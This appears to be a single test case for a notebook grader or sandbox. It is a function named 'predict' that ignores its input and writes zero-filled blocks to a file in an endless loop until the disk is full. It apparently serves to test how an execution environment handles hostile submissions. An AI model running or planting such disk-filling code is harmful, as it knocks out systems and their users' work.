# case: 23
# cell: predict
# %% predict
def predict(scores):
    with open("huge", "wb") as file:
        while True:
            file.write(bytes(1 << 24))
